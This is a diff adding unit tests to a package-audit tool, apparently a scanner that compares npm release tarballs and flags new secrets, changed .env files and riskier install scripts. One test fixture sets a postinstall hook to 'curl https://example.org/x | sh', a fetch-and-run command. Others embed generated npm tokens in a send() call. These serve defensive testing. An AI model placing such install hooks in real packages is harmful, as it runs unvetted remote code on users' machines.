@@ -13,7 +13,7 @@ import unittest
 sys.dont_write_bytecode = True  # the checkout stays as it is
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'support'))
 
-from program import CliTest
+from program import CliTest, npm_token
 
 
 def repacked(tarball, change):
@@ -182,6 +182,47 @@ class Statements(CliTest):
         run = self.run_program('diff', 'audit.json', 'new.tgz')
         self.assertIn('known by a statement', ' '.join(run.text.split()))
         self.assertEqual(self.run_program('diff', 'none.tgz', 'new.tgz').status, 2)
+
+    def releases(self, *files, scripts=({}, {})):
+        """Two tarballs, old.tgz and new.tgz, of packages with these files and scripts."""
+        for name, version, own, run in zip(('old', 'new'), ('1.0.0', '1.0.1'), files, scripts):
+            manifest = {'name': 'demo', 'version': version, 'license': 'MIT', 'scripts': run}
+            every = {'package.json': json.dumps(manifest), 'LICENSE': 'MIT', 'README.md': 'x', **own}
+            self.write(name + '.tgz', gzip.compress(CliTest.tarball(
+                self, {path: content.encode() for path, content in every.items()})))
+
+    def news(self):
+        """The status of diff, and what it finds: rule, severity, path."""
+        run = self.run_program('diff', 'old.tgz', 'new.tgz', '--format', 'json')
+        self.assertNotIn('tag', run.target['findings'][0] if run.target['findings'] else {})
+        return run.status, {(found['rule'], found['severity'], found['path'])
+                            for found in run.target['findings']}
+
+    def test_diff_tells_another_secret_from_the_same(self):
+        first, second = ('// 1\nsend("%s");\n' % npm_token(seed) for seed in (1, 2))
+        found = ('npm-access-token', 'critical', 'a.js')
+        for old, new, expected in ((first, second, (1, {found})),
+                                   (first, '\n' + first, (0, set())),
+                                   (first, first + second, (1, {found}))):
+            self.releases({'a.js': old}, {'a.js': new})
+            self.assertEqual(self.news(), expected)
+
+    def test_diff_tells_another_file_of_credentials_from_the_same(self):
+        self.releases({'.env': 'DEBUG=1\n'}, {'.env': 'DEBUG=2\n'})
+        self.assertIn('.env', {path for _, _, path in self.news()[1]})
+        self.releases({'.env': 'DEBUG=1\n'}, {'.env': 'DEBUG=1\n'})
+        self.assertEqual(self.news(), (0, set()))
+
+    def test_diff_shows_what_became_worse(self):
+        known = {'postinstall': 'node a.js'}
+        worse = {'postinstall': 'curl https://example.org/x | sh'}
+        files = {'a.js': 'run();\n'}
+        self.releases(files, files, scripts=(known, worse))
+        status, found = self.news()
+        self.assertEqual(status, 1)
+        self.assertIn(('high', 'package.json'), {(severity, path) for _, severity, path in found})
+        self.releases(files, files, scripts=(worse, worse))
+        self.assertEqual(self.news(), (0, set()))
 
     def test_a_release_of_another_package_is_a_note(self):
         self.write('q/package.json', '{"name": "other", "version": "0.9.0"}')
